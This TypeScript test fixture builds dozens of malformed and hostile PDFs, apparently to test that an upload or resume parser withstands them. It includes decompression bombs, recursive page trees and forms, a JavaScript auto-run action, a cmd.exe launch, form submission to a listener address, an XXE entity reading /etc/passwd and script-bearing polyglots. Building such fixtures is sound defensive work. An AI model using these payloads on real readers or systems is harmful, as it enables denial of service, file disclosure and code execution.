/** PDF files that mean harm, written by hand so that they can lie. */
import { lockedPdf, pdf, resume } from '#world/people/documents.ts';
import { bytesOf, either, type HostileFile, joined, taken, unreadable, wrongType, zlibMillions } from './files.ts';

type Part = string | { dictionary: string; stream: Uint8Array | string };

/** Objects 1, 2, 3 … with a table of where they are; `trailer` adds to the last dictionary. */
function written(objects: readonly Part[], trailer = '', head = '%PDF-1.7\n'): Uint8Array {
  const parts: (Uint8Array | string)[] = [head];
  const places: number[] = [];
  let at = head.length;
  const add = (part: Uint8Array | string) => {
    parts.push(part);
    at += part.length;
  };
  for (const [index, object] of objects.entries()) {
    places.push(at);
    if (typeof object === 'string') {
      add(`${index + 1} 0 obj\n${object}\nendobj\n`);
      continue;
    }
    add(`${index + 1} 0 obj\n<< ${object.dictionary} /Length ${object.stream.length} >>\nstream\n`);
    add(object.stream);
    add('\nendstream\nendobj\n');
  }
  const start = at;
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`);
  const size = objects.length + 1;
  parts.push(`xref\n0 ${size}\n0000000000 65535 f \n${rows.join('')}`);
  parts.push(`trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`);
  return joined(...parts);
}

const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const words = 'BT /F1 11 Tf 50 700 Td (Accountant with five years of closing and SST returns.) Tj ET';

interface Page {
  catalog?: string;
  pages?: string;
  page?: string;
  content?: Part;
  resources?: string;
  more?: readonly Part[];
  trailer?: string;
  head?: string;
}

/** One page of text; what is given takes the place of a part or is added to it. Objects from 6 on are `more`. */
function onePage(change: Page = {}): Uint8Array {
  const { catalog = '', page = '', content = { dictionary: '', stream: words }, resources = '', more = [] } = change;
  return written(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      change.pages ?? '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${resources} >> ${page} >>`,
      content,
      font,
      ...more,
    ],
    change.trailer,
    change.head,
  );
}

const flate = (stream: Uint8Array, more = '/Filter /FlateDecode') => ({ dictionary: more, stream });

/** A tree of pages, so many levels deep. */
function deepTree(depth: number): Uint8Array {
  const levels = Array.from({ length: depth }, (_, index) => `<< /Type /Pages /Kids [${index + 7} 0 R] /Count 1 >>`);
  const last = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>`;
  return onePage({ pages: '<< /Type /Pages /Kids [6 0 R] /Count 1 >>', more: [...levels, last] });
}

function manyPages(count: number): Uint8Array {
  const kids = Array.from({ length: count }, (_, index) => `${index + 6} 0 R`).join(' ');
  const sheet =
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>';
  return onePage({
    pages: `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    more: Array<string>(count).fill(sheet),
  });
}

/** The place of the last table, in a file of `onePage`. */
const tablePlace = (file: Uint8Array) => /startxref\s+(\d+)/.exec(Buffer.from(file).toString('latin1'))?.[1] ?? '0';

/** `listener` is an address at which nobody may call. */
export async function hostilePdfs(listener: string): Promise<HostileFile[]> {
  const honest = await pdf(resume);
  const file = (what: string, bytes: Uint8Array, read: readonly number[] = taken, kept = taken, name = 'a.pdf') => ({
    what,
    name,
    bytes,
    kept,
    read,
  });
  const plain = onePage();
  const place = tablePlace(plain);
  const picture = (stream: Uint8Array, size: number) => ({
    resources: '/XObject << /P 6 0 R >>',
    content: { dictionary: '', stream: `q 500 0 0 700 40 40 cm /P Do Q ${words}` },
    more: [
      {
        dictionary: `/Type /XObject /Subtype /Image /Width ${size} /Height ${size} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode`,
        stream,
      },
    ],
  });
  const form = (content: string) => ({
    dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 500 500] /Resources << /XObject << /P 6 0 R >> >>',
    stream: content,
  });
  return [
    file('600 pages', manyPages(600)),
    file('20,000 pages', manyPages(20_000), either),
    file('a tree of pages 20,000 levels deep', deepTree(20_000), either),
    file('a page that is its own tree', onePage({ pages: '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>' }), either),
    file(
      'a tree without leaves that leads back',
      onePage({
        pages: '<< /Type /Pages /Kids [6 0 R] /Count 9 >>',
        more: ['<< /Type /Pages /Kids [2 0 R] /Count 9 >>'],
      }),
      either,
    ),
    file(
      'a count of two thousand million pages',
      onePage({ pages: '<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>' }),
      either,
    ),
    file('a negative count of pages', onePage({ pages: '<< /Type /Pages /Kids [3 0 R] /Count -5 >>' }), either),
    file('a table that names itself as the one before', onePage({ trailer: `/Prev ${place}` }), either),
    file('a table that names a place beyond the end', onePage({ trailer: '/Prev 99999999999' }), either),
    file('a table that is itself in a stream that is itself', onePage({ trailer: `/XRefStm ${place}` }), either),
    file('a size of four thousand million objects', onePage({ trailer: '/Size 4294967295' }), either),
    file('a start that is elsewhere', joined(plain.slice(0, -20), 'startxref\n1\n%%EOF\n'), either),
    file(
      'a length that is its own reference',
      onePage({ content: '<< /Length 4 0 R >>\nstream\nBT ET\nendstream' }),
      either,
    ),
    file('a reference that leads to itself', onePage({ page: '/Annots 6 0 R', more: ['6 0 R'] }), either),
    file(
      'lists in one another, 200,000 deep',
      onePage({ page: `/X ${'['.repeat(200_000)}${']'.repeat(200_000)}` }),
      either,
    ),
    file(
      'dictionaries in one another, 100,000 deep',
      onePage({ page: `/X ${'<</A '.repeat(100_000)}1${'>>'.repeat(100_000)}` }),
      either,
    ),
    file(
      'instructions in one another, 20,000 deep',
      onePage({ content: { dictionary: '', stream: `${'q '.repeat(20_000)}${words}` } }),
      either,
    ),
    file(
      'lists in its instructions, 200,000 deep',
      onePage({ content: { dictionary: '', stream: `${'['.repeat(200_000)} TJ ${words}` } }),
      either,
    ),
    file('instructions that unfold to 500 MB', onePage({ content: flate(zlibMillions(500, 0x20)) }), unreadable),
    file(
      'instructions packed twice, 20 MB and then more',
      onePage({ content: flate(zlibMillions(20), '/Filter [/FlateDecode /FlateDecode]') }),
      unreadable,
    ),
    file(
      'a hundred filters',
      onePage({ content: flate(zlibMillions(1), `/Filter [${'/ASCIIHexDecode '.repeat(99)}/FlateDecode]`) }),
      unreadable,
    ),
    file('five thousand pieces of text', onePage({ content: { dictionary: '', stream: words.repeat(5000) } }), either),
    file('a picture of 20,000 × 20,000', onePage(picture(zlibMillions(1200), 20_000))),
    file(
      'a picture that claims 2,000,000,000 × 2,000,000,000',
      onePage(picture(zlibMillions(1), 2_000_000_000)),
      either,
    ),
    file('a form that draws itself', onePage({ ...picture(zlibMillions(1), 1), more: [form('/P Do /P Do')] }), either),
    file(
      'thirty forms that each draw the next twice',
      onePage({
        resources: '/XObject << /P 6 0 R >>',
        content: { dictionary: '', stream: `${words} /P Do` },
        more: Array.from({ length: 30 }, (_, index) => ({
          dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /P ${index + 7} 0 R >> >>`,
          stream: '/P Do /P Do',
        })),
      }),
      unreadable,
    ),
    file(
      'a font whose letters draw themselves',
      onePage({
        content: { dictionary: '', stream: '/F1 9 Tf BT /F2 9 Tf (a) Tj ET' },
        resources: '/Font << /F1 5 0 R /F2 6 0 R >>',
        more: [
          '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 7 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F2 6 0 R >> >> >>',
          { dictionary: '', stream: '9 0 d0 BT /F2 9 Tf (a) Tj ET' },
        ],
      }),
      either,
    ),
    file(
      'a font whose matrix is a script',
      onePage({
        resources: '/X << >>',
        more: ['<< /Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 0 0 1 0 (0\\); process.exit\\(7\\)] >>'],
        page: '/Y 6 0 R',
      }),
      either,
    ),
    file('a page of 1e300 points', onePage({ page: '/MediaBox [0 0 1e300 1e300] /UserUnit 1e300' }), either),
    file(
      'numbers of 100,000 digits',
      onePage({ content: { dictionary: '', stream: `${'9'.repeat(100_000)} 0 Td ${words}` } }),
      either,
    ),
    file('a name of 1 MB', onePage({ page: `/${'x'.repeat(1_000_000)} 1` }), either),
    file(
      'a script that runs when it opens',
      onePage({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
    ),
    file('a program to launch', onePage({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })),
    file(
      'a form that sends itself away',
      onePage({ catalog: `/OpenAction << /S /SubmitForm /F (${listener}/pdf) >>` }),
    ),
    file('a link to elsewhere that opens', onePage({ catalog: `/OpenAction << /S /URI /URI (${listener}/pdf) >>` })),
    file(
      'contents that lie elsewhere',
      onePage({ content: { dictionary: `/F (${listener}/pdf)`, stream: words } }),
      either,
    ),
    file(
      'a program in it',
      onePage({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
        more: ['<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', { dictionary: '', stream: 'MZ\x90\0' }],
      }),
    ),
    file(
      'a form in XML with an entity',
      onePage({
        catalog: '/AcroForm << /XFA 6 0 R >>',
        more: [
          {
            dictionary: '',
            stream:
              '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&a;</xdp:xdp>',
          },
        ],
      }),
      either,
    ),
    file('a password that nobody knows', await lockedPdf(), unreadable, unreadable),
    file('a lock of no known kind', onePage({ trailer: '/Encrypt << /Filter /Mine /V 9 >>' }), unreadable, unreadable),
    file('a lock that is nowhere', onePage({ trailer: '/Encrypt 99 0 R' }), unreadable, unreadable),
    file('half of itself', honest.slice(0, honest.length / 2), unreadable, unreadable),
    file('nothing but a head', bytesOf('%PDF-1.7\n'), unreadable, unreadable),
    file('nothing but a head and an end', bytesOf('%PDF-1.7\n%%EOF\n'), unreadable),
    file('its end a million times', joined(plain, '%%EOF\n'.repeat(500_000)), either),
    file('objects that are only announced', joined('%PDF-1.7\n', '1 0 obj\n'.repeat(300_000), '%%EOF'), unreadable),
    file('4 MB of digits and gaps', joined('%PDF-1.7\n%%EOF', '1 '.repeat(2_000_000)), unreadable),
    file('4 MB of one gap', joined('%PDF-1.7\n%%EOF 1', ' '.repeat(4_000_000)), unreadable),
    file('two hundred thousand objects', onePage({ more: Array<string>(100_000).fill('null') }), either),
    file('HTML around it', onePage({ head: '<!--\n%PDF-1.7\n--><script>alert(1)</script>\n' }), either),
    file('HTML around it, named so', onePage({ head: '<html>%PDF-1.7\n' }), wrongType, wrongType, 'a.html'),
    file(
      'an archive behind it',
      joined(plain, 'PK\x03\x04word/document.xml', 'PK\x05\x06', new Uint8Array(18)),
      either,
    ),
    file('two endings', plain, wrongType, wrongType, 'a.pdf.exe'),
    file('a program', joined('MZ\x90\0\x03\0\0\0', new Uint8Array(3000)), wrongType, wrongType),
    file('a program of Linux', joined('\x7fELF\x02\x01\x01', new Uint8Array(3000)), wrongType, wrongType),
    file('a script with a head far behind', joined('#!/bin/sh\n', 'x'.repeat(2000), '%PDF-1.7'), wrongType, wrongType),
  ];
}
